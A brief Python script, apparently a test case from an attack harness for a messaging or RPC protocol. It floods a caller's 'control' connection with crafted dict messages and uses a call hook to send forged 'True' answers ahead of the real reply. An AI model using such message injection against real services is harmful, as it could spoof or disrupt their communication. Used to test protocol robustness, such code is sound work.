from attack import *

nothing = message({"dict": [[{"str": "value"}, None]]})
true = message({"dict": [[{"str": "value"}, True]]})
local_of_a_caller("control").sendall(nothing * 100)


@at_call
def answer_ahead():
    send_raw(true * 100)
